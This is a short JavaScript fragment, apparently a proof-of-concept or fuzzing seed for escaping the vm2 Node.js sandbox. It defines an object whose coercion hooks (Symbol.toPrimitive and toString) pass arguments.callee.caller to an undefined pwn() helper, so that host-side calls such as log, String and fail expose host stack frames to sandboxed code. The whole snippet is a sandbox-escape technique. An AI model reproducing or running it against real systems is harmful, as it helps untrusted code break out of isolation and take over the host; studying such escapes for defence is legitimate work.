// vm2 class: host-side coercion calls sandbox code with host frames
const o = { [Symbol.toPrimitive]() { try { pwn(arguments.callee.caller) } catch (e) {} return 'x' }, toString() { try { pwn(arguments.callee.caller) } catch (e) {} return 'y' } }; log(o); log(String(o)); try { fail(o) } catch (e) {}
